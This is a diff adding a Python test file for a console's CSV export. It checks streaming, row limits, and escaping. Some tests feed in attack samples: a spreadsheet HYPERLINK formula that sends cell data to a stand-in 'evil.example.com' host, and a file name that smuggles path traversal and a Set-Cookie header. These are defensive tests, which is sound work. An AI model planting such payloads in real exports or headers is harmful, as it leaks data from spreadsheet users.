@@ -1,0 +1,126 @@
+"""Lists as CSV: the rows of the page, safe to open in a spreadsheet, and however many without holding them all."""
+
+from __future__ import annotations
+
+import csv
+import io
+import tracemalloc
+
+import pytest
+
+from console import spreadsheets
+from console.spreadsheets import cell, file_name, lines
+from store import segments
+from store.lists import messages as lists
+from store.lists.messages import MessageFilter
+from tests.console.desk import Desk
+from tests.console.stored import customer_id, write_message, write_task
+from tests.intake.house import START
+from tests.store.many import fill
+
+
+def rows(content: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+
+
+async def test_a_list_is_given_as_a_file_with_the_rows_that_are_asked_for(desk: Desk) -> None:
+    for number in range(1, 61):
+        write_message(desk, number, template="a/b" if number % 2 else "c/d")
+    answer = await desk.get("/messages?template=c%2Fd&format=csv", "viewer")
+    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
+    assert answer.headers["content-disposition"] == 'attachment; filename="milepost-messages-2026-03-02.csv"'
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["cache-control"] == "no-store"
+    assert not answer.content.startswith(b"\xef\xbb\xbf")
+    assert answer.content.startswith(b"id,state,channel,")
+    assert answer.content.count(b"\r\n") == 31
+    found = rows(answer.content)
+    assert [row["id"] for row in found] == [f"m{number}" for number in range(60, 0, -2)]
+    assert found[0]["due_at"] == "2026-03-02T09:01:00Z"
+    assert found[0]["customer"] == "ada"
+
+
+async def test_what_a_customer_wrote_is_no_formula(desk: Desk) -> None:
+    formula = '=HYPERLINK("https://evil.example.com?"&A1,"click")'
+    write_message(desk, user="+ada", subject=formula, recipient="@sum(1)", template='a",\r\n=b')
+    answer = await desk.get("/messages?format=csv")
+    (found,) = rows(answer.content)
+    assert found["subject"] == f"'{formula}"
+    assert (found["customer"], found["to"], found["template"]) == ("'+ada", "'@sum(1)", 'a",\r\n=b')
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(start: str) -> None:
+    assert cell(f"{start}1+1") == f"'{start}1+1"
+    assert cell(f"a{start}") == f"a{start}"
+
+
+def test_numbers_and_instants_and_what_is_not_there_are_plain() -> None:
+    assert [cell(one) for one in (-5, 2.5, None, True, START, "", {"a": "é"})] == [
+        "-5", "2.5", "", "yes", "2026-03-02T09:00:00Z", "", '{"a": "é"}',
+    ]  # fmt: skip
+
+
+def test_the_name_of_a_file_is_safe_whatever_is_in_it() -> None:
+    assert (
+        file_name('segment-x"; filename="../../evil.exe\r\nSet-Cookie: a') == "segment-x-filename-evil-exe-set-cookie-a"
+    )
+    assert file_name("…") == "list"
+    assert len(file_name("x" * 500)) == 60
+
+
+async def test_every_list_is_given_as_a_file_also_an_empty_one(desk: Desk) -> None:
+    places = ("/messages", "/outbox", "/tasks", "/events", "/audit", "/segments/fans")
+    for place in places:
+        empty = await desk.get(f"{place}?format=csv&customer=nobody&who=nobody", "viewer")
+        assert (empty.status_code, empty.content.count(b"\r\n")) == (200, 1), place
+    write_message(desk)
+    write_task(desk, 2)
+    desk.house.track("alpha", user="grace")
+    desk.house.write(lambda session: segments.change(session, customer_id(desk, "grace"), {"fans": True}, START))
+    for place in places:
+        full = await desk.get(f"{place}?format=csv", "viewer")
+        assert len(rows(full.content)) == (2 if place == "/audit" else 1), place  # who was made, and came
+
+
+MANY, MEGABYTES = 100_000, 24
+
+
+async def test_a_hundred_thousand_rows_go_out_in_little_memory(desk: Desk) -> None:
+    desk.house.write(lambda session: fill(session, MANY))
+    database = desk.house.database
+
+    async def size() -> tuple[int, int]:
+        written = number = 0
+        made = lines(database, ["id"], lambda s, c, limit: lists.listed(s, MessageFilter(), c, limit), tuple)
+        async for piece in made:
+            written += len(piece)
+            number += piece.count(b"\r\n")
+        return written, number
+
+    tracemalloc.start()
+    try:
+        written, number = await size()
+        most = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert number == MANY + 1
+    assert written > 12 * 2**20
+    assert most < MEGABYTES * 2**20, f"{most / 2**20:.1f} MB for {written / 2**20:.1f} MB of CSV"
+
+
+async def test_no_query_reads_more_than_a_thousand_rows(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(spreadsheets, "ROWS", 7)
+    asked: list[int] = []
+    listed = lists.listed
+
+    def counting(session: object, wanted: object, cursor: object, limit: int) -> object:
+        asked.append(limit)
+        return listed(session, wanted, cursor, limit)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(lists, "listed", counting)
+    for number in range(1, 31):
+        write_message(desk, number)
+    answer = await desk.get("/messages?format=csv")
+    assert [row["id"] for row in rows(answer.content)] == [f"m{number}" for number in range(30, 0, -1)]
+    assert asked == [7] * 5
